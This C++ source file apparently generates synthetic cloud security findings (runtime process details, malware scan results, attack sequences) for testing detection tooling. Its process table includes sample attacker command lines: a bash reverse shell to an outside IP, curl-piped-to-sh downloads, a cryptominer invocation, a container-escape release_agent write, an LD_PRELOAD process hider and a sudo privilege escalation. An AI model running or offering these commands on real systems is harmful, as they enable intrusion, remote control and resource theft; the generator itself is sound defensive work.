// The service blocks beyond the action: additionalInfo, evidence, runtimeDetails (Runtime
// Monitoring), ebsVolumeScanDetails (Malware Protection) and detection.sequence (attack sequences).
#include <string_view>

#include "base/time.h"
#include "findings/generator_internal.h"

namespace vigil::findings::gen {

namespace {

constexpr std::string_view kThreatLists[] = {"ProofPoint", "CrowdStrike", "Amazon",
                                             "Amazon Threat Intel", "Emerging Threats"};
constexpr std::string_view kCustomLists[] = {"corp-blocklist", "MyThreatIntelSet", "soc-iocs-2024"};
constexpr std::string_view kThreatNames[] = {"Mirai",    "Emotet", "CoinMiner", "Cobalt Strike",
                                             "TrickBot", "Gafgyt", "Qakbot",    "AsyncRAT",
                                             "Kinsing",  "TeamTNT"};
constexpr std::string_view kApis[] = {"ListBuckets",
                                      "GetCallerIdentity",
                                      "DescribeInstances",
                                      "ListUsers",
                                      "GetBucketAcl",
                                      "ListRoles",
                                      "DescribeSecurityGroups",
                                      "GetAccountAuthorizationDetails"};

void AppendSha256(std::string* out, Rng& rng) {
  for (int i = 0; i < 4; ++i) AppendHex(out, rng.Next(), 16);
}

struct ProcessSpec {
  std::string_view family;  // matched against the type
  std::string_view name;
  std::string_view path;
  std::string_view command;
};

constexpr ProcessSpec kProcesses[] = {
    {"CryptoMiner", "xmrig", "/tmp/.X11-unix/xmrig",
     "/tmp/.X11-unix/xmrig -o pool.supportxmr.com:443 -u 4AdUndXH --tls"},
    {"BitcoinTool", "kdevtmpfsi", "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi"},
    {"ReverseShell", "bash", "/usr/bin/bash", "bash -i >& /dev/tcp/45.76.12.8/4444 0>&1"},
    {"SuspiciousTool", "nmap", "/usr/bin/nmap", "nmap -sS -p- 10.0.0.0/16"},
    {"DockerSocket", "curl", "/usr/bin/curl",
     "curl --unix-socket /var/run/docker.sock http://localhost/containers/json"},
    {"KernelModule", "insmod", "/usr/sbin/insmod", "insmod /tmp/diamorphine.ko"},
    {"RuncContainerEscape", "runc", "/usr/sbin/runc", "runc exec --tty container sh"},
    {"CGroups", "sh", "/bin/sh", "echo /cmd > /tmp/cgrp/release_agent"},
    {"ProcessInjection", "python3", "/usr/bin/python3", "python3 /tmp/inject.py --pid 1"},
    {"Ptrace", "gdb", "/usr/bin/gdb", "gdb -p 1234 -batch -ex 'call dlopen(\"/tmp/x.so\",1)'"},
    {"Fileless", "memfd:payload", "/memfd:payload (deleted)", "/proc/self/fd/3"},
    {"ElevationToRoot", "sudo", "/usr/bin/sudo", "sudo -u#-1 /bin/bash"},
    {"NewBinary", "kworkerds", "/var/tmp/kworkerds", "/var/tmp/kworkerds -daemon"},
    {"NewLibrary", "sshd", "/usr/sbin/sshd", "LD_PRELOAD=/tmp/libprocesshider.so sshd"},
    {"Userfaultfd", "exploit", "/tmp/exploit", "/tmp/exploit"},
    {"MountsHostDirectory", "mount", "/usr/bin/mount", "mount /dev/nvme0n1p1 /mnt/host"},
    {"MaliciousFileExecuted", "kinsing", "/tmp/kinsing", "/tmp/kinsing"},
    {"Shell", "sh", "/bin/sh", "sh -c 'curl -s http://185.220.101.4/x.sh | sh'"},
    {"", "curl", "/usr/bin/curl", "curl -fsSL http://45.95.147.236/setup.sh -o /tmp/s.sh"},
};

const ProcessSpec& ProcessFor(std::string_view type) {
  for (const ProcessSpec& spec : kProcesses) {
    if (!spec.family.empty() && type.find(spec.family) != std::string_view::npos) return spec;
  }
  return kProcesses[std::size(kProcesses) - 1];
}

void WriteProcessIds(JsonWriter& w, EventContext& ctx, Rng& rng, int64_t start) {
  WriteTime(w, &ctx.scratch, "startTime", start);
  ctx.scratch.clear();
  AppendUuid(&ctx.scratch, rng);
  w.Field("uuid", ctx.scratch);
  ctx.scratch.clear();
  AppendUuid(&ctx.scratch, rng);
  w.Field("parentUuid", ctx.scratch);
}

}  // namespace

void WriteEvidence(JsonWriter& w, EventContext& ctx) {
  w.Key("evidence");
  if (!ctx.profile->threat_intel) {
    w.Null();
    return;
  }
  Rng rng(Mix(ctx.record->id_seed, 20));
  w.BeginObject();
  w.Key("threatIntelligenceDetails");
  w.BeginArray();
  w.BeginObject();
  w.Field("threatListName",
          ctx.profile->custom_list ? rng.Pick(kCustomLists) : rng.Pick(kThreatLists));
  w.Key("threatNames");
  w.BeginArray();
  ctx.facts.threat.assign(rng.Pick(kThreatNames));
  w.String(ctx.facts.threat);
  w.EndArray();
  w.EndObject();
  w.EndArray();
  w.EndObject();
}

void WriteAdditionalInfo(JsonWriter& w, EventContext& ctx) {
  Rng rng(Mix(ctx.version->action_seed, 21));
  const TypeProfile& p = *ctx.profile;
  std::string& info = ctx.info;
  info.clear();
  {
    JsonWriter iw(&info);
    iw.BeginObject();
    if (ctx.sample) iw.Field("sample", true);
    if (p.threat_intel) {
      iw.Field("threatListName", p.custom_list ? "corp-blocklist" : "ProofPoint");
      iw.Field("threatName", ctx.facts.threat.empty() ? std::string_view("Known malicious host")
                                                      : std::string_view(ctx.facts.threat));
    }
    if (p.action == ActionKind::kAwsApiCall || p.action == ActionKind::kKubernetesApiCall) {
      iw.Key("userAgent");
      iw.BeginObject();
      iw.Field("fullUserAgent", ctx.facts.user_agent);
      iw.Field("userAgentCategory", ctx.facts.user_agent.find("kali") != std::string::npos
                                        ? "Kali Linux"
                                    : ctx.facts.user_agent.rfind("aws-cli", 0) == 0 ? "AWS CLI"
                                    : ctx.facts.user_agent.rfind("console", 0) == 0 ? "Console"
                                                                                    : "SDK");
      iw.EndObject();
      iw.Field("authenticationMethod", "AuthHeader");
    }
    if (p.action == ActionKind::kAwsApiCall) {
      iw.Key("recentApiCalls");
      iw.BeginArray();
      const int n = static_cast<int>(rng.Range(5, 8));
      for (int i = 0; i < n; ++i) {
        iw.BeginObject();
        iw.Field("count", static_cast<int>(rng.Range(1, 40)));
        iw.Field("api", i == 0 ? std::string_view(ctx.facts.api) : rng.Pick(kApis));
        iw.EndObject();
      }
      iw.EndArray();
    }
    if (p.family == "AnomalousBehavior" && !ctx.sample) {
      iw.Key("unusual");
      iw.BeginObject();
      iw.Key("hoursOfDay");
      iw.BeginArray();
      iw.Int(rng.Range(0, 23));
      iw.EndArray();
      iw.Key("userNames");
      iw.BeginArray();
      iw.String(ctx.facts.user);
      iw.EndArray();
      iw.Key("asns");
      iw.BeginArray();
      iw.String(rng.Pick({"16276", "14061", "4134", "24940"}));
      iw.EndArray();
      iw.EndObject();
      iw.Key("profiledBehavior");
      iw.BeginObject();
      iw.Field("rareProfiledAPIsAccountProfiling", ctx.facts.api);
      iw.Field("infrequentProfiledAPIsAccountProfiling", "GetObject,PutObject");
      iw.Field("frequentProfiledAPIsAccountProfiling",
               "DescribeInstances,AssumeRole,GetCallerIdentity");
      iw.Field("rareProfiledUserTypesAccountProfiling", "AssumedRole");
      iw.Field("frequentProfiledUserTypesAccountProfiling", "IAMUser");
      iw.Field("rareProfiledASNsAccountProfiling", "asnNumber: 16509");
      iw.Field("frequentProfiledASNsAccountProfiling", "asnNumber: 7922,asnNumber: 16509");
      iw.Field("rareProfiledUserNamesAccountProfiling", ctx.facts.user);
      iw.EndObject();
    }
    if (p.action == ActionKind::kRdsLoginAttempt) {
      // What the RDS anomaly model profiled, as in real RDS Protection findings.
      iw.Key("unusualBehavior");
      iw.BeginObject();
      static constexpr std::string_view kProfiles[][2] = {
          {"unusualUserNameClusterProfiling", "userName"},
          {"unusualASNClusterProfiling", "asnOrg"},
          {"unusualApplicationNameClusterProfiling", "applicationName"},
          {"unusualDatabaseNameClusterProfiling", "databaseName"}};
      for (const auto& profile : kProfiles) {
        iw.Key(profile[0]);
        iw.BeginObject();
        iw.Field(profile[1], profile[1] == "userName" ? std::string_view(ctx.facts.user)
                                                      : rng.Pick({"psql", "orders", "DBeaver"}));
        iw.Field("failedLoginCount", static_cast<int>(rng.Range(0, 400)));
        iw.Field("successfulLoginCount", static_cast<int>(rng.Range(0, 3)));
        iw.Field("incompleteConnectionCount", static_cast<int>(rng.Range(0, 20)));
        iw.EndObject();
      }
      iw.EndObject();
    }
    if (p.action == ActionKind::kNetworkConnection || p.action == ActionKind::kPortProbe) {
      if (ctx.outbound) {
        iw.Field("outBytes", static_cast<int64_t>(rng.Range(2000, 90000000)));
        iw.Field("inBytes", static_cast<int64_t>(rng.Range(200, 900000)));
      }
      iw.Field("localPort", ctx.facts.port);
    }
    iw.EndObject();
  }
  w.Key("additionalInfo");
  // Newer findings also carry the object re-serialised as a string under "value", and a "type".
  const bool small_doc = p.action == ActionKind::kAwsApiCall ||
                         p.action == ActionKind::kRdsLoginAttempt ||
                         p.action == ActionKind::kKubernetesApiCall;
  if (!small_doc && Mix(ctx.record->id_seed, 22) % 10 < 3) {
    w.Raw(info);
    return;
  }
  std::string& out = ctx.scratch;
  out.assign(info, 0, info.size() - 1);
  if (info.size() > 2) out.push_back(',');
  out.append("\"value\":");
  AppendJsonString(&out, info);
  out.append(",\"type\":\"default\"}");
  w.Raw(out);
}

void WriteRuntimeDetails(JsonWriter& w, EventContext& ctx) {
  Rng rng(Mix(ctx.version->action_seed, 23));
  const ProcessSpec& spec = ProcessFor(ctx.profile->type);
  const int64_t seen = ctx.version->last_seen;
  w.Key("runtimeDetails");
  w.BeginObject();
  w.Key("process");
  w.BeginObject();
  w.Field("name", spec.name);
  w.Field("executablePath", spec.path);
  ctx.scratch.clear();
  AppendSha256(&ctx.scratch, rng);
  w.Field("executableSha256", ctx.scratch);
  const int pid = static_cast<int>(rng.Range(300, 65000));
  w.Field("pid", pid);
  w.Field("namespacePid", static_cast<int>(rng.Range(1, 400)));
  WriteProcessIds(w, ctx, rng, seen - rng.Range(1, 600) * 1000);
  const bool root = rng.Chance(0.6);
  w.Field("user", root ? "root" : "ubuntu");
  w.Field("userId", root ? 0 : 1000);
  w.Field("euid", root ? 0 : 1000);
  w.Key("lineage");
  w.BeginArray();
  static constexpr std::string_view kAncestors[][2] = {
      {"bash", "/usr/bin/bash"},
      {"containerd-shim", "/usr/bin/containerd-shim-runc-v2"},
      {"systemd", "/usr/lib/systemd/systemd"}};
  for (int i = 0; i < 3; ++i) {
    w.BeginObject();
    WriteProcessIds(w, ctx, rng, seen - (i + 1) * rng.Range(600, 86400) * 1000);
    w.Field("namespacePid", i == 2 ? 1 : static_cast<int>(rng.Range(2, 300)));
    w.Field("userId", 0);
    w.Field("name", kAncestors[i][0]);
    w.Field("pid", i == 2 ? 1 : static_cast<int>(rng.Range(100, 60000)));
    w.Field("executablePath", kAncestors[i][1]);
    w.Field("euid", 0);
    w.EndObject();
  }
  w.EndArray();
  w.EndObject();
  w.Key("context");
  w.BeginObject();
  w.Field("commandLineExample", spec.command);
  const std::string_view type = ctx.profile->type;
  if (type.find("DockerSocket") != std::string_view::npos) {
    w.Field("socketPath", "/var/run/docker.sock");
    w.Field("addressFamily", "AF_UNIX");
  }
  if (type.find("KernelModule") != std::string_view::npos) {
    w.Field("moduleName", "diamorphine");
    w.Field("moduleFilePath", "/tmp/diamorphine.ko");
    ctx.scratch.clear();
    AppendSha256(&ctx.scratch, rng);
    w.Field("moduleSha256", ctx.scratch);
  }
  if (type.find("CGroups") != std::string_view::npos)
    w.Field("releaseAgentPath", "/tmp/cgrp/release_agent");
  if (type.find("Runc") != std::string_view::npos) w.Field("runcBinaryPath", "/usr/sbin/runc");
  if (type.find("Mounts") != std::string_view::npos) {
    w.Field("mountSource", "/dev/nvme0n1p1");
    w.Field("mountTarget", "/mnt/host");
    w.Field("fileSystemType", "xfs");
  }
  if (type.find("ProcessInjection") != std::string_view::npos ||
      type.find("Ptrace") != std::string_view::npos) {
    w.Key("targetProcess");
    w.BeginObject();
    w.Field("name", "sshd");
    w.Field("pid", static_cast<int>(rng.Range(300, 3000)));
    w.Field("user", "root");
    w.EndObject();
  }
  if (type.find("SuspiciousTool") != std::string_view::npos) {
    w.Field("toolName", "nmap");
    w.Field("toolCategory", "Network scanner");
  }
  if (type.find("Malicious") != std::string_view::npos ||
      type.find("NewBinary") != std::string_view::npos) {
    w.Field("threatFilePath", spec.path);
  }
  if (ctx.profile->action != ActionKind::kNone) {
    w.Field("addressFamily", "AF_INET");
    w.Field("ianaProtocolNumber", 6);
  }
  w.EndObject();
  w.EndObject();
}

void WriteMalwareScanDetails(JsonWriter& w, EventContext& ctx) {
  Rng rng(Mix(ctx.version->action_seed, 24));
  const int64_t done = ctx.version->last_seen;
  const int64_t started = done - rng.Range(60, 1800) * 1000;
  struct Threat {
    std::string_view name;
    std::string_view severity;
    std::string_view path;
  };
  static constexpr Threat kThreats[] = {
      {"Trojan.Linux.Mirai.B", "HIGH", "usr/bin/.sshd"},
      {"Linux.Coinminer.XMRig", "HIGH", "tmp/.X11-unix/xmrig"},
      {"EICAR-Test-File", "MEDIUM", "tmp/eicar.com"},
      {"Backdoor.Linux.Tsunami", "HIGH", "var/tmp/kworker"},
      {"Trojan.GenericKD.70214512", "MEDIUM", "home/ubuntu/invoice.pdf.exe"},
      {"Ransom.Linux.LockBit", "CRITICAL", "opt/app/lb.elf"},
      {"PUA.Linux.Hacktool.Masscan", "LOW", "usr/local/bin/masscan"}};
  const Threat& threat = rng.Pick(kThreats);
  ctx.facts.threat.assign(threat.name);
  w.Key("ebsVolumeScanDetails");
  w.BeginObject();
  ctx.scratch.clear();
  AppendHex(&ctx.scratch, rng.Next(), 16);
  AppendHex(&ctx.scratch, rng.Next(), 16);
  w.Field("scanId", ctx.scratch);
  w.Field("scanStartedAt", static_cast<double>(int64_t{started / 1000}));
  w.Field("scanCompletedAt", static_cast<double>(int64_t{done / 1000}));
  w.Field("scanType", rng.Chance(0.8) ? "GUARDDUTY_INITIATED" : "ON_DEMAND");
  ctx.scratch.clear();
  AppendHex(&ctx.scratch, rng.Next(), 16);
  AppendHex(&ctx.scratch, rng.Next(), 16);
  w.Field("triggerFindingId", ctx.scratch);
  w.Key("sources");
  w.BeginArray();
  w.String("Amazon");
  if (rng.Chance(0.5)) w.String("Bitdefender");
  w.EndArray();
  const int files = static_cast<int>(rng.Range(1, 3));
  w.Key("scanDetections");
  w.BeginObject();
  w.Key("scannedItemCount");
  w.BeginObject();
  w.Field("totalGb", static_cast<int>(rng.Range(2, 90)));
  w.Field("files", static_cast<int>(rng.Range(20000, 400000)));
  w.Field("volumes", 1);
  w.EndObject();
  w.Key("threatsDetectedItemCount");
  w.BeginObject();
  w.Field("files", files);
  w.EndObject();
  w.Key("highestSeverityThreatDetails");
  w.BeginObject();
  w.Field("severity", threat.severity);
  w.Field("threatName", threat.name);
  w.Field("count", files);
  w.EndObject();
  w.Key("threatDetectedByName");
  w.BeginObject();
  w.Field("itemCount", files);
  w.Field("uniqueThreatNameCount", 1);
  w.Field("shortened", false);
  w.Key("threatNames");
  w.BeginArray();
  w.BeginObject();
  w.Field("name", threat.name);
  w.Field("severity", threat.severity);
  w.Field("itemCount", files);
  w.Key("filePaths");
  w.BeginArray();
  for (int i = 0; i < files; ++i) {
    w.BeginObject();
    ctx.scratch2.assign(threat.path);
    if (i > 0) ctx.scratch2.append(".").append(std::to_string(i));
    w.Field("filePath", ctx.scratch2);
    ctx.scratch.assign("arn:aws:ec2:").append(ctx.region).append(":").append(ctx.account_id);
    ctx.scratch.append(":volume/vol-");
    AppendHex(&ctx.scratch, Mix(ctx.record->resource_seed, 11), 17);
    w.Field("volumeArn", ctx.scratch);
    ctx.scratch.clear();
    AppendSha256(&ctx.scratch, rng);
    w.Field("hash", ctx.scratch);
    const size_t slash = ctx.scratch2.rfind('/');
    w.Field("fileName",
            std::string_view(ctx.scratch2).substr(slash == std::string::npos ? 0 : slash + 1));
    w.EndObject();
  }
  w.EndArray();
  w.EndObject();
  w.EndArray();
  w.EndObject();
  w.EndObject();
  w.EndObject();
}

void WriteAttackSequence(JsonWriter& w, EventContext& ctx) {
  Rng rng(Mix(ctx.version->action_seed, 25));
  const std::string_view rta = ctx.profile->rta;
  w.Key("detection");
  w.BeginObject();
  w.Key("sequence");
  w.BeginObject();
  ctx.scratch.clear();
  AppendHex(&ctx.scratch, Mix(ctx.record->id_seed, 26), 16);
  AppendHex(&ctx.scratch, Mix(ctx.record->id_seed, 27), 16);
  w.Field("uid", ctx.scratch);
  ctx.facts.resource_label.assign(rta == "IAM"  ? "IAM credentials"
                                  : rta == "S3" ? "S3 data"
                                                : "cluster resources");
  w.Field("description",
          rta == "S3" ? "A sequence of actions involving potential data exfiltration and "
                        "destruction of S3 data."
          : rta == "IAM"
              ? "A sequence of actions involving potentially compromised AWS credentials."
              : "A sequence of actions indicating a potentially compromised workload.");
  // Actors, resources and endpoints, referenced from the signals by id.
  const Remote remote = ctx.remotes->Pick(rng, *ctx.profile);
  std::string& ip = ctx.facts.remote_ip;
  ip.clear();
  AppendIp(&ip, remote.ip);
  ctx.facts.user.assign(rng.Pick({"ci-deploy", "terraform", "alice.martin", "svc-backup"}));
  ctx.scratch2.assign("arn:aws:iam::")
      .append(ctx.account_id)
      .append(":user/")
      .append(ctx.facts.user);
  w.Key("actors");
  w.BeginArray();
  w.BeginObject();
  w.Field("id", ctx.scratch2);
  w.Key("session");
  w.BeginObject();
  ctx.scratch.assign("ASIA");
  AppendAwsId(&ctx.scratch, rng, 16);
  w.Field("uid", ctx.scratch);
  w.Field("mfaStatus", "DISABLED");
  WriteTime(w, &ctx.scratch, "createdTime", ctx.record->first_seen);
  w.Field("issuer", ctx.scratch2);
  w.EndObject();
  w.EndObject();
  w.EndArray();
  w.Key("resources");
  w.BeginArray();
  const int n_resources = static_cast<int>(rng.Range(1, 3));
  for (int i = 0; i < n_resources; ++i) {
    w.BeginObject();
    ctx.scratch.assign(rta == "S3" ? "arn:aws:s3:::acme-prod-data-" : "arn:aws:ec2:");
    if (rta != "S3")
      ctx.scratch.append(ctx.region).append(":").append(ctx.account_id).append(":instance/i-");
    AppendHex(&ctx.scratch, rng.Next(), rta == "S3" ? 6 : 17);
    w.Field("uid", ctx.scratch);
    w.Field("accountId", ctx.account_id);
    w.Field("resourceType", rta == "S3" ? "AWS::S3::Bucket" : "AWS::EC2::Instance");
    w.Field("region", ctx.region);
    w.Field("service", rta == "S3" ? "s3" : "ec2");
    w.Field("cloudPartition", "aws");
    w.EndObject();
  }
  w.EndArray();
  w.Key("endpoints");
  w.BeginArray();
  w.BeginObject();
  w.Field("id", ip);
  w.Field("ip", ip);
  w.Key("autonomousSystem");
  w.BeginObject();
  w.Field("name", remote.network->asn_org);
  w.Field("number", remote.network->asn);
  w.EndObject();
  w.Key("location");
  w.BeginObject();
  w.Field("city", remote.network->city);
  w.Field("country", remote.network->country_name);
  w.Field("lat", remote.network->lat);
  w.Field("lon", remote.network->lon);
  w.EndObject();
  w.EndObject();
  w.EndArray();
  w.Key("signals");
  w.BeginArray();
  static constexpr std::string_view kSignals[] = {"Discovery:IAMUser/AnomalousBehavior",
                                                  "UnauthorizedAccess:IAMUser/TorIPCaller",
                                                  "Stealth:IAMUser/CloudTrailLoggingDisabled",
                                                  "Exfiltration:S3/AnomalousBehavior",
                                                  "Impact:S3/AnomalousBehavior.Delete",
                                                  "PrivilegeEscalation:IAMUser/AnomalousBehavior",
                                                  "Execution:Runtime/ReverseShell",
                                                  "Impact:Runtime/CryptoMinerExecuted"};
  const int n_signals = static_cast<int>(rng.Range(3, 5));
  const int64_t first = ctx.record->first_seen;
  const int64_t last = ctx.version->last_seen;
  for (int i = 0; i < n_signals; ++i) {
    const bool api = i % 2 == 1;
    const std::string_view name = api ? rng.Pick(kApis) : rng.Pick(kSignals);
    w.BeginObject();
    ctx.scratch.assign("arn:aws:guardduty:").append(ctx.region).append(":").append(ctx.account_id);
    ctx.scratch.append(":detector/").append(ctx.detector_id).append("/finding/");
    AppendHex(&ctx.scratch, rng.Next(), 16);
    AppendHex(&ctx.scratch, rng.Next(), 16);
    w.Field("uid", ctx.scratch);
    w.Field("type", api ? "CLOUD_TRAIL" : "FINDING");
    w.Field("description", api ? "A rarely used API was invoked by the principal."
                               : "A GuardDuty finding correlated into this sequence.");
    w.Field("name", name);
    const int64_t t0 = first + (last - first) * i / n_signals;
    WriteTime(w, &ctx.scratch, "createdAt", t0);
    WriteTime(w, &ctx.scratch, "updatedAt", t0 + 60000);
    WriteTime(w, &ctx.scratch, "firstSeenAt", t0);
    WriteTime(w, &ctx.scratch, "lastSeenAt", t0 + 30000);
    w.Field("severity", api ? 1.0 : static_cast<double>(rng.Range(20, 80)) / 10.0);
    w.Field("count", static_cast<int>(rng.Range(1, 30)));
    w.Key("resourceUids");
    w.BeginArray();
    w.EndArray();
    w.Key("actorIds");
    w.BeginArray();
    w.String(ctx.scratch2);
    w.EndArray();
    w.Key("endpointIds");
    w.BeginArray();
    w.String(ip);
    w.EndArray();
    w.EndObject();
  }
  w.EndArray();
  w.Key("sequenceIndicators");
  w.BeginArray();
  w.BeginObject();
  w.Field("key", "ATTACK_TACTIC");
  w.Key("values");
  w.BeginArray();
  w.String("Discovery");
  w.String(rta == "S3" ? "Exfiltration" : "Persistence");
  w.String("Defense Evasion");
  w.EndArray();
  w.EndObject();
  w.BeginObject();
  w.Field("key", "HIGH_RISK_API");
  w.Key("values");
  w.BeginArray();
  w.String(rta == "S3" ? "s3:DeleteObject" : "cloudtrail:StopLogging");
  w.EndArray();
  w.EndObject();
  w.EndArray();
  w.EndObject();
  w.EndObject();
}

}  // namespace vigil::findings::gen
